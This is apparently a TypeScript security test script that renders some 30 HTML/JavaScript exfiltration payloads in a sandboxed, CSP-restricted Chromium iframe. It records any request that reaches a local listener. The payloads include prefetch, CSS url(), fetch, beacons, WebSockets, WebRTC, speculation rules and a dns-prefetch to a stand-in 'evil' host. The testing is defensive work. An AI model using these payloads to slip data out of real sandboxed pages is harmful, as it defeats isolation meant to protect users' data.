import { createServer } from 'node:http'
import { createServer as tcp } from 'node:net'
import { createSocket } from 'node:dgram'
import { launchChromium } from './test/kit/electron/launch.ts'
const hits: string[] = []
const listener = tcp((s) => { hits.push('tcp connect'); s.on('data', (d) => { hits.push('tcp ' + d.toString().split('\r\n')[0]); s.end('HTTP/1.1 204 x\r\naccess-control-allow-origin: *\r\n\r\n') }); s.on('error', () => {}) })
await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r))
const port = (listener.address() as any).port
const udp = createSocket('udp4', ); udp.on('message', (m) => hits.push('udp ' + m.length)); await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r)); const uport = udp.address().port
const extra = process.argv.includes('--bare') ? {} : { 'x-dns-prefetch-control': 'off', ...(process.argv.includes('--allow') ? {'connection-allowlist': '(response-origin)'} : {}) }
const frameCsp = "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'" + (process.argv.includes('--bare') ? '' : "; webrtc 'block'")
let self = ''
const app = createServer((q, r) => {
  if (q.url === '/preview') return void r.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': frameCsp, ...extra }).end(`<!doctype html><script>addEventListener('message', (e) => { document.open(); document.write(e.data); document.close() }, { once: true }); parent.postMessage('ready','*')</script>`)
  r.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': `default-src 'none'; script-src 'self' 'unsafe-inline'; frame-src ${self}/preview` }).end('<body>host')
})
await new Promise<void>((r) => app.listen(0, '127.0.0.1', r)); self = `http://127.0.0.1:${(app.address() as any).port}`
const b = await launchChromium(); const ctx = await b.newContext(); const page = await ctx.newPage()
page.on('console', (m) => { if (process.argv.includes('-v')) console.log('   console:', m.text().slice(0, 200)) })
await page.goto(self)
const E = `http://127.0.0.1:${port}`, H = `http://localhost:${port}`
const attacks: Record<string, string> = {
  preconnect: `<link rel=preconnect href="${E}">`, preconnectjs: `<script>const l=document.createElement('link');l.rel='preconnect';l.href='${H}';document.head.append(l)</script>`,
  prefetch: `<link rel=prefetch href="${E}/prefetch">`, preload: `<link rel=preload as=image href="${E}/preload">`, modulepreload: `<link rel=modulepreload href="${E}/mp.js">`, style: `<link rel=stylesheet href="${E}/s.css">`, icon: `<link rel=icon href="${E}/i.png">`, manifest: `<link rel=manifest href="${E}/m.json">`,
  img: `<img src="${E}/img"><img srcset="${E}/set 1x"><picture><source srcset="${E}/pic"><img></picture><svg><image href="${E}/svgimg"/><use href="${E}/u.svg#a"/><feImage href="${E}/fe"/></svg><video poster="${E}/poster" src="${E}/v"></video><audio src="${E}/a"></audio><object data="${E}/o"></object><embed src="${E}/e"><iframe src="${E}/if"></iframe><input type=image src="${E}/in"><body background="${E}/bg">`,
  css: `<style>@import url(${E}/imp);@font-face{font-family:x;src:url(${E}/f)}body{font-family:x;background:url(${E}/bg);cursor:url(${E}/c),auto;list-style:url(${E}/l);mask:url(${E}/m#a);filter:url(${E}/fi#a)}body::after{content:url(${E}/co)}</style>text`,
  fetch: `<script>fetch('${E}/fetch',{mode:'no-cors'}).catch(()=>{});fetch('${E}/keep',{mode:'no-cors',keepalive:true,method:'POST',body:'x'}).catch(()=>{});navigator.sendBeacon('${E}/beacon','x');new WebSocket('ws://127.0.0.1:${port}/ws');new EventSource('${E}/es');const x=new XMLHttpRequest();x.open('GET','${E}/xhr');x.send();import('${E}/import.js').catch(()=>{});try{new WebTransport('https://127.0.0.1:${port}/wt')}catch(e){}</script>`,
  fetchlater: `<script>try{fetchLater('${E}/later',{activateAfter:0})}catch(e){console.log(String(e))}</script>`,
  worker: `<script>try{new Worker(URL.createObjectURL(new Blob(['fetch("${E}/w")'])))}catch(e){console.log(String(e))};try{new SharedWorker('data:text/javascript,fetch("${E}/sw")')}catch(e){console.log(String(e))}; try { navigator.serviceWorker.register('x.js').catch(()=>{}) } catch(e) {}</script>`,
  nav: `<script>location.href='${E}/nav'</script>`, meta: `<meta http-equiv=refresh content="0;url=${E}/meta">`, selfnav: `<script>location.href='${self}/other'</script>`, top: `<script>try{top.location.href='${E}/top'}catch(e){console.log(String(e))}</script>`, open: `<script>try{console.log('open '+window.open('${E}/open'))}catch(e){}</script>`,
  form: `<form action="${E}/form" method=post><input name=a value=1></form><script>document.forms[0].submit()</script>`, aping: `<a id=a href="#x" ping="${E}/ping">x</a><script>document.getElementById('a').click()</script>`, adown: `<a id=a href="data:text/plain,x" download=x>x</a><script>document.getElementById('a').click()</script>`, atop: `<a id=a target=_top href="${E}/atop">x</a><script>document.getElementById('a').click()</script>`, mail: `<a id=a href="mailto:x@y">x</a><script>document.getElementById('a').click()</script>`,
  rtc: `<script>try{const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${uport}'},{urls:'turn:127.0.0.1:${uport}',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o)).catch(e=>console.log(String(e)))}catch(e){console.log(String(e))}</script>`,
  spec: `<script type=speculationrules>{"prefetch":[{"urls":["${E}/spec"],"eagerness":"immediate"}],"prerender":[{"urls":["${E}/prer"],"eagerness":"immediate"}]}</script>`,
  blobnav: `<script>location.href=URL.createObjectURL(new Blob(['<script>parent.postMessage("blobran","*")<\\/script><img src="${E}/blobimg">'],{type:'text/html'}))</script>`, datanav: `<script>location.href='data:text/html,<img src="${E}/dataimg"><script>fetch("${E}/datafetch")<\\/script>'</script>`, srcdoc: `<iframe srcdoc="<img src='${E}/srcdoc'><script>fetch('${E}/srcdocf')</script>"></iframe>`, jsurl: `<iframe src="javascript:fetch('${E}/js')"></iframe>`,
  dns: `<link rel=dns-prefetch href="//secret.evil.example">`, attribution: `<img attributionsrc="${E}/attr"><script>try{window.open('about:blank','x','attributionsrc=${E}/attr2')}catch(e){}</script>`,
  csprep: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${E}/report"><img src="data:image/png,x">`,
  popover: `<script>document.documentElement.requestFullscreen?.().then(()=>console.log('FULL')).catch(e=>console.log(String(e)));try{alert(1)}catch(e){};try{console.log(document.cookie)}catch(e){console.log('cookie '+e.name)};try{localStorage.x=1}catch(e){console.log('ls '+e.name)};try{parent.document.title}catch(e){console.log('parent '+e.name)}</script>`,
}
for (const [name, html] of Object.entries(attacks)) {
  hits.length = 0
  await page.evaluate(([src, html]) => new Promise<void>((done) => { document.querySelector('iframe')?.remove(); const f = document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts'); f.setAttribute('referrerpolicy', 'no-referrer'); f.src = src; addEventListener('message', (e) => { if (e.data === 'ready') { f.contentWindow!.postMessage(html, '*'); setTimeout(done, 700) } else console.log('MSG ' + e.data) }); document.body.append(f) }), [self + '/preview', html] as const).catch((e) => console.log('   evaluate failed', String(e).slice(0, 100)))
  console.log(name, hits.length ? 'LEAK ' + JSON.stringify(hits) : 'none', page.url() === self + '/' ? '' : 'PAGE MOVED ' + page.url(), ctx.pages().length > 1 ? 'POPUP' : '', page.frames().slice(1).map((f) => f.url().slice(0, 60)).join(' '))
  if (page.url() !== self + '/') await page.goto(self)
}
// loop
await page.evaluate(([src]) => new Promise<void>((done) => { document.querySelector('iframe')?.remove(); const f = document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts'); f.src = src; addEventListener('message', (e) => { if (e.data === 'ready') { f.contentWindow!.postMessage('<script>setTimeout(()=>{for(;;);},50)</script>', '*'); done() } }); document.body.append(f) }), [self + '/preview'])
await new Promise((r) => setTimeout(r, 500))
let t = performance.now()
console.log('loop: main answers', await Promise.race([page.evaluate(() => new Promise((r) => setTimeout(() => r(1 + 1), 20))), new Promise((r) => setTimeout(() => r('BLOCKED'), 4000))]), performance.now() - t)
t = performance.now(); await Promise.race([page.evaluate(() => document.querySelector('iframe')!.remove()), new Promise((r) => setTimeout(r, 3000))]); console.log('removed', performance.now() - t)
await b.close(); listener.close(); udp.close(); app.closeAllConnections(); app.close()
